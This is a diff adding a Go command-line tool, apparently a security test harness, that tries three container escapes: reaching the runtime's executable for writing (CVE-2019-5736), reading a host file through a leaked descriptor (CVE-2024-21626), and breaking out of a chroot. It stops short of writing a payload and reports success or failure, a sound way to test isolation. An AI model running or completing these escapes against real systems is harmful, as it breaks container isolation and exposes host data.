@@ -1,0 +1,132 @@
+// Command intruder tries one way out of a container, for scripts/attacks.sh. It prints "GOT IN" and what it got, or why not.
+//
+//	intruder NAME [ARG...]
+package main
+
+import (
+	"bytes"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// attacks by name. Each returns what it got hold of, or the error that stopped it.
+var attacks = map[string]func(args []string) (string, error){
+	"overwrite-exe": overwriteExe,
+	"leaked-fd":     leakedDescriptor,
+	"escape-chroot": escapeChroot,
+}
+
+func main() {
+	if len(os.Args) < 2 || attacks[os.Args[1]] == nil {
+		fmt.Fprintln(os.Stderr, "usage: intruder NAME [ARG...]")
+		os.Exit(2)
+	}
+	got, err := attacks[os.Args[1]](os.Args[2:])
+	if err != nil {
+		fmt.Println("stopped:", err)
+		os.Exit(1)
+	}
+	fmt.Println("GOT IN:", got)
+}
+
+// overwriteExe waits for a process of the runtime to show up in here and opens its program for writing (CVE-2019-5736).
+// It does not write, and a program that runs at the moment (ETXTBSY) counts: the attacker would hold it open and wait.
+func overwriteExe(args []string) (string, error) {
+	if err := os.WriteFile(args[0], nil, 0o644); err != nil { // tells that we are watching
+		return "", err
+	}
+	own, err := os.Stat("/proc/self/exe")
+	if err != nil {
+		return "", err
+	}
+	stopped := fmt.Errorf("no process of the runtime was seen")
+	held := map[string]*os.File{}
+	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); {
+		programs, err := filepath.Glob("/proc/[0-9]*/exe")
+		if err != nil {
+			return "", err
+		}
+		for _, exe := range programs {
+			file, err := os.Open(exe)
+			if err != nil {
+				continue
+			}
+			info, err := file.Stat()
+			if err != nil || os.SameFile(info, own) || info.Size() < 4<<20 { // busybox and we are smaller
+				file.Close()
+				continue
+			}
+			link, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", file.Fd()))
+			if held[link] != nil {
+				file.Close()
+				continue
+			}
+			held[link] = file
+		}
+		for link, file := range held {
+			writable, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", file.Fd()), os.O_WRONLY, 0)
+			if err == nil {
+				return "the runtime's program " + link + ", open for writing", writable.Close()
+			}
+			if errors.Is(err, syscall.ETXTBSY) && !protected(file) {
+				return "the runtime's program " + link + ", writable as soon as it does not run", nil
+			}
+			stopped = fmt.Errorf("%s: %w", link, err)
+		}
+	}
+	return "", stopped
+}
+
+// protected tells whether a file cannot be written to whenever: its mount is read-only, or it is sealed (memfd_create(2)).
+func protected(file *os.File) bool {
+	var fs unix.Statfs_t
+	if err := unix.Fstatfs(int(file.Fd()), &fs); err == nil && fs.Flags&unix.ST_RDONLY != 0 {
+		return true
+	}
+	seals, err := unix.FcntlInt(file.Fd(), unix.F_GET_SEALS, 0)
+	return err == nil && seals&unix.F_SEAL_WRITE != 0
+}
+
+// leakedDescriptor looks for a descriptor or a working directory of the host (CVE-2024-21626).
+func leakedDescriptor([]string) (string, error) {
+	descriptors, err := os.ReadDir("/proc/self/fd")
+	if err != nil {
+		return "", err
+	}
+	for _, d := range descriptors {
+		for _, dir := range []string{"/proc/self/fd/" + d.Name(), "/proc/self/cwd"} {
+			text, err := os.ReadFile(dir + "/secret-of-the-host")
+			if err == nil {
+				return strings.TrimSpace(string(text)), nil
+			}
+		}
+	}
+	return "", fmt.Errorf("nothing leads outside")
+}
+
+// escapeChroot walks up from a directory that is above its own root.
+func escapeChroot(args []string) (string, error) {
+	if err := os.MkdirAll("/tmp/hole", 0o700); err != nil {
+		return "", err
+	}
+	if err := syscall.Chroot("/tmp/hole"); err != nil {
+		return "", err
+	}
+	for i := 0; i < 100; i++ {
+		if err := syscall.Chdir(".."); err != nil {
+			return "", err
+		}
+	}
+	if err := syscall.Chroot("."); err != nil {
+		return "", err
+	}
+	text, err := os.ReadFile(args[0])
+	return string(bytes.TrimSpace(text)), err
+}
